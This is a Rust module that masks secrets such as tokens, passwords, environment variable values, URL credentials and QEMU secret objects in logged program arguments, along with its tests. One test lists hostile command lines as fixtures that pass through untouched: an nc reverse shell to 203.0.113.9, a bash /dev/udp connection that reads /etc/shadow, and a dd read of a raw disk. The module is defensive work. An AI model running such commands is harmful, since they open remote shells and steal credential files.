//! Values among a program's arguments that are likely secrets: variables of an
//! environment, tokens, passwords. Which there were is told, never what they are.

/// What stands for a value.
const HIDDEN: &str = "***";

/// Parts of names whose values are hidden, in lower case.
const SECRET: [&str; 15] = [
    "token",
    "secret",
    "passw",
    "pwd",
    "api_key",
    "api-key",
    "apikey",
    "access_key",
    "access-key",
    "private_key",
    "private-key",
    "credential",
    "authorization",
    "bearer",
    "cookie",
];

/// Options that set a variable.
const SETS_VARIABLE: [&str; 3] = ["e", "env", "environment"];

/// Between parts of one argument: of a script, of QEMU's options.
const BETWEEN: [char; 7] = [',', ';', '&', '|', '"', '\'', '`'];

/// Arguments without the values that nobody is to read.
pub(super) fn hide(words: impl Iterator<Item = String>) -> Vec<String> {
    let mut option = None;
    let hidden = words.map(|word| {
        let before = std::mem::replace(&mut option, option_of(&word));
        match before {
            Some(Sets::Variable) if word.contains('=') => assigned(&word),
            Some(Sets::Secret) if !word.starts_with('-') => HIDDEN.to_owned(),
            _ => in_parts(&word),
        }
    });
    hidden.collect()
}

/// What an option says of the argument after it.
enum Sets {
    Variable,
    Secret,
}

fn option_of(word: &str) -> Option<Sets> {
    let name = word.strip_prefix('-')?.trim_start_matches('-');
    if SETS_VARIABLE.contains(&name) {
        return Some(Sets::Variable);
    }
    let is_name = !name.contains(['=', ':', ' ']);
    (is_name && is_secret(name)).then_some(Sets::Secret)
}

/// One argument may be a script, or a list of options.
fn in_parts(word: &str) -> String {
    // QEMU's objects, `-object secret,id=a,data=…` and the same as JSON.
    let of_qemu = word.starts_with("secret,") || word.contains("qom-type=secret");
    if word.starts_with('{') && word.contains("\"secret\"") {
        return format!("{{{HIDDEN}}}");
    }
    let mut said = String::with_capacity(word.len());
    let mut in_header = false;
    for part in word.split_inclusive(|c: char| c.is_whitespace() || BETWEEN.contains(&c)) {
        let body = part.trim_end_matches(|c: char| c.is_whitespace() || BETWEEN.contains(&c));
        let end = part.get(body.len()..).unwrap_or_default();
        let is_data = of_qemu && body.starts_with("data=");
        if in_header && !body.is_empty() {
            said.push_str(HIDDEN);
        } else if is_data {
            said.push_str(&assigned(body));
        } else {
            said.push_str(&in_part(body));
        }
        said.push_str(end);
        // `Authorization: Bearer …`, to the end of the text.
        in_header |= body.strip_suffix(':').is_some_and(is_secret);
        in_header &= !end.contains(['"', '\'']);
    }
    said
}

fn in_part(part: &str) -> String {
    if let Some((scheme, rest)) = part.split_once("://") {
        let (place, path) = rest.split_at(rest.find('/').unwrap_or(rest.len()));
        let place = place
            .rsplit_once('@')
            .map_or_else(|| place.to_owned(), |(_, host)| format!("{HIDDEN}@{host}"));
        // What follows the place may be a query.
        return format!("{scheme}://{place}{}", in_query(path));
    }
    let Some((name, value)) = part.split_once(['=', ':']) else {
        return part.to_owned();
    };
    let bare = name.trim_start_matches('-');
    if SETS_VARIABLE.contains(&bare) && bare != name && value.contains('=') {
        return format!("{name}={}", assigned(value));
    }
    let is_assigned = part.as_bytes().get(name.len()) == Some(&b'=');
    if !value.is_empty() && (is_secret(bare) || is_assigned && is_variable(bare)) {
        return assigned(part);
    }
    part.to_owned()
}

fn in_query(path: &str) -> String {
    let Some((place, query)) = path.split_once('?') else {
        return path.to_owned();
    };
    format!("{place}?{}", in_part(query))
}

/// The name alone.
fn assigned(word: &str) -> String {
    let end = word.find(['=', ':']).map_or(0, |at| at + 1);
    format!("{}{HIDDEN}", word.get(..end).unwrap_or_default())
}

fn is_secret(name: &str) -> bool {
    let name = name.to_ascii_lowercase();
    SECRET.iter().any(|part| name.contains(part))
}

/// As shells and orchestrators write those of an environment.
fn is_variable(name: &str) -> bool {
    let known = |byte: u8| byte.is_ascii_uppercase() || byte.is_ascii_digit() || byte == b'_';
    name.starts_with(|c: char| c.is_ascii_uppercase() || c == '_') && name.bytes().all(known)
}

#[cfg(test)]
mod tests {
    use super::*;
    use proptest::prelude::*;

    #[track_caller]
    fn check(line: &[&str], expected: &[&str]) {
        let words = line.iter().map(|word| (*word).to_owned());
        assert_eq!(hide(words), expected);
    }

    #[test]
    fn values_of_variables_and_secrets_are_hidden() {
        check(&["env", "HOME=/root", "sh"], &["env", "HOME=***", "sh"]);
        check(&["--env", "home=x", "a=b"], &["--env", "home=***", "a=b"]);
        check(&["-e", "A=x"], &["-e", "A=***"]);
        check(&["--env=OPENAI_API_KEY=x"], &["--env=OPENAI_API_KEY=***"]);
        check(
            &["--token=x", "--api-key", "y"],
            &["--token=***", "--api-key", "***"],
        );
        check(&["--password", "--quiet"], &["--password", "--quiet"]);
        check(
            &[
                "curl",
                "-H",
                "Authorization: Bearer x y",
                "https://u:x@h/p?token=x",
            ],
            &[
                "curl",
                "-H",
                "Authorization: *** *** ***",
                "https://***@h/p?token=***",
            ],
        );
        check(
            &["sh", "-c", "TOKEN=x curl -H 'X-Api-Key: x' h; A=x,b=c"],
            &[
                "sh",
                "-c",
                "TOKEN=*** curl -H 'X-Api-Key: ***' h; A=***,b=c",
            ],
        );
        check(
            &[
                "-object",
                "secret,id=s,data=x",
                "-object",
                "{\"qom-type\":\"secret\",\"data\":\"x\"}",
            ],
            &["-object", "secret,id=s,data=***", "-object", "{***}"],
        );
    }

    /// They are what somebody who looks into an escape wants to read.
    #[test]
    fn what_a_program_does_is_told() {
        for line in [
            &[
                "/bin/bash",
                "-c",
                "exec 3<>/dev/udp/203.0.113.9/53; read -n1 x </etc/shadow",
            ][..],
            &["dd", "if=/dev/sda", "of=/tmp/x", "bs=4k"],
            &["nc", "-e", "/bin/sh", "203.0.113.9", "53"],
            &["mount", "-o", "loop,offset=512", "a:b", "https://h/x?a=b"],
        ] {
            check(line, line);
        }
    }

    proptest! {
        #[test]
        fn nothing_grows_beyond_bounds(words in prop::collection::vec(".{0,80}", 0..8)) {
            let hidden = hide(words.clone().into_iter());
            prop_assert_eq!(hidden.len(), words.len());
            for (word, hidden) in words.iter().zip(hidden) {
                prop_assert!(hidden.len() <= 4 * word.len() + 8);
            }
        }
    }
}
